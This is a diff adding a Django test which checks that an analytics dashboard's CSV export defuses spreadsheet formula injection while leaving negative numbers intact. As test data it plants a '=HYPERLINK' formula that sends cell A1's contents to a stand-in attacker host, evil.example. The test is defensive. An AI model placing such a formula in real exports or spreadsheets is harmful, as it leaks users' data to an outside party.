@@ -165,3 +165,23 @@ def test_dashboard_query_count_does_not_grow_with_data(client, staff_user, world
     client.force_login(staff_user)
     with django_assert_max_num_queries(20):
         client.get(reverse("admin:analytics_dashboard"), RANGE)
+
+
+def test_csv_export_defuses_spreadsheet_formulas_and_keeps_negative_numbers(client, staff_user, world, settings):
+    from analytics.views import csv_cell
+    from runbooks.models import Runbook
+
+    settings.TIME_ZONE = "UTC"
+    Runbook.objects.filter(slug="t/a").update(name='=HYPERLINK("http://evil.example/?"&A1,"click")')
+    client.force_login(staff_user)
+    response = client.get(reverse("admin:analytics_dashboard_csv", args=["top_runbooks"]), RANGE)
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[1][:2] == ["t/a", '\'=HYPERLINK("http://evil.example/?"&A1,"click")']
+    assert [csv_cell(v) for v in ["-0.25", "+3", "@SUM(A1)", "-cmd", "plain", 7]] == [
+        "-0.25",
+        "+3",
+        "'@SUM(A1)",
+        "'-cmd",
+        "plain",
+        7,
+    ]
